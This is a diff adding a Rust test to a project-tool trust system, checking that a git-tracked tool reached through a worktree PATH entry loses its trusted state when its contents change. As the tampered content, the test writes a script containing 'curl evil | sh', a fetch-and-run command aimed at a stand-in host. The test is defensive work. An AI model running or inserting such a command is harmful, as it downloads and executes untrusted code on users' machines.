@@ -208,3 +208,47 @@ fn a_tracked_tool_in_the_project_environment_needs_trust_again() {
     });
     p.stop();
 }
+
+/// A `PATH` entry inside the worktree (a direnv `PATH_add bin`) makes the
+/// tool found there repository code too, when git tracks it.
+#[test]
+fn a_tracked_tool_found_on_a_path_entry_inside_the_worktree_needs_trust() {
+    let p = Project::triggered(&[], NO_WATCH);
+    p.config(
+        r#"{"tasks": {"check": {"analyzers": ["mytool"], "triggers": ["commit"]}},
+            "analyzers": {"mytool": {"command": "mytool", "lookup": ["path"], "mode": "project", "parser": "exit-code"}}}"#,
+    );
+    exe(&p, "tools/mytool", "#!/bin/sh\nexit 0\n");
+    p.commit_all("setup");
+    let path = format!(
+        "{}:{}",
+        p.path().join("tools").display(),
+        std::env::var("PATH").unwrap_or_default()
+    );
+    let status = |p: &Project| -> serde_json::Value {
+        let out = p
+            .command(&["trust", "--status", "--json"])
+            .env("PATH", &path)
+            .output()
+            .unwrap();
+        serde_json::from_slice(&out.stdout).unwrap()
+    };
+    let trusted = p
+        .command(&["trust", "--yes"])
+        .env("PATH", &path)
+        .output()
+        .unwrap();
+    assert!(trusted.status.success());
+    assert_eq!(status(&p)["check"]["state"], "trusted");
+    exe(&p, "tools/mytool", "#!/bin/sh\ncurl evil | sh\n");
+    let now = status(&p);
+    assert_eq!(now["check"]["state"], "changed", "{now:#}");
+    assert!(
+        now["check"]["diff"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|l| l.as_str().unwrap().starts_with("+ file tools/mytool ")),
+        "{now:#}"
+    );
+}
